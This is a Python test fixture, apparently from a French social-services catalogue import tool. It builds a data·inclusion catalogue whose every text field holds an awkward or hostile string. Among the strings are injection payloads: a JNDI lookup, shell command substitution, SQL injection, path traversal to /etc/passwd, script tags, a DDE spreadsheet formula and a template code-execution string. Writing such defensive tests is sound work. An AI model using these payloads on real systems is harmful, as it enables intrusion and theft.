"""Sixty texts that catalogues should not hold, and a catalogue made of nothing else."""

from __future__ import annotations

import json
from pathlib import Path

from tests.exchange.samples import service, structure

_MARKUP = (
    "<b>gras</b>",
    "a<b>c",
    "<b>non fermé",
    "<img src='file://{marker}'>",
    '<img src="//serveur/partage/x.png">',
    "<img src='http://exemple.fr/x.png'>",
    "<a href='file:///etc/passwd'>ici</a>",
    "<script>alert(1)</script>",
    "<style>* {{ color: red }}</style>",
    "texte <table><tr><td>x",
    "<onDraw name='x' label='y'/>",
    "<para>x</para>",
    "</para>x",
    "ligne<br/>suite",
    "&lt;b&gt;",
    "Aide & Soins",
    "&Fichier && &x",
    "&#60;b&#62; &eacute;",
    "<!-- jamais fermé",
    "]]> <![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "<font color='[[[getattr(pow, Word(\"__globals__\"))]]]'>x</font>",
)
_FORMS = (
    "%s %d %n %(x)s",
    "{{0}} {{x!r}} {{x.__class__}}",
    "${{jndi:ldap://exemple.fr/a}}",
    "$(id) `id`",
    "'; DROP TABLE record; --",
    '" OR 1=1',
    "\\n \\u0041 \\",
    "../../../etc/passwd",
    "C:\\Windows\\System32\\x.exe",
    "CON.txt.",
    "a/b\\c:d*e?f|g",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://exemple.fr";"ici")',
    "=cmd|'/c calc'!A1",
    "+33 1 99 00 00 12",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
)
_SCRIPTS = (
    "مركز المساعدة",
    "Cours مساعدة 123",
    "שלום (עולם)",
    "தமிழ் வகுப்பு",
    "中文课程",
    "አማርኛ ትምህርት",
    "Åse Ægir Þór",
    "e\u0301cole co\u0302te\u0301",
    "Z\u0351\u0352a\u0300\u0301\u0302l\u0323g\u0324o\u0325",
    "👩\u200d👩\u200d👧 famille",
    "𝕬𝖙𝖊𝖑𝖎𝖊𝖗",
    "ﷺ ﬁn ½ №",
)
_SHAPES = (
    "\u202eretourné",
    "zéro\u200blargeur",
    "a\u00a0b\u202fc\u2009d",
    "x" * 400,
    "long " * 300,
    "un\ndeux\n\ntrois",
    "tab\tulation",
    "\u00a0",
)


def texts(marker: Path) -> tuple[str, ...]:
    """List the texts; one names a picture that nobody may read."""
    return tuple(
        each.format(marker=marker) for each in (*_MARKUP, *_FORMS, *_FORMULAS, *_SCRIPTS, *_SHAPES)
    )


def catalogue(found: tuple[str, ...]) -> str:
    """Make a data·inclusion file whose every free field is one of the texts."""
    lines = []
    for rank, text in enumerate(found, start=1):
        shared = {
            "nom": text if text.strip() else f"n° {rank}",
            "description": text,
            "adresse": text,
            "complement_adresse": text,
            "commune": "Athis-Mons",
            "code_postal": "91200",
            "code_insee": "91027",
            "courriel": "accueil@exemple.fr",
            "telephone": "01 99 00 00 12",
        }
        lines.append(structure(id=f"exemple--s{rank}", **shared))
        lines.append(
            service(
                id=f"exemple--{rank}",
                structure_id=f"exemple--s{rank}",
                contact_nom_prenom=text,
                publics_precisions=text,
                conditions_acces=text,
                frais_precisions=text,
                mobilisation_precisions=text,
                lien_mobilisation=text,
                **shared,
            )
        )
    return json.dumps(lines)
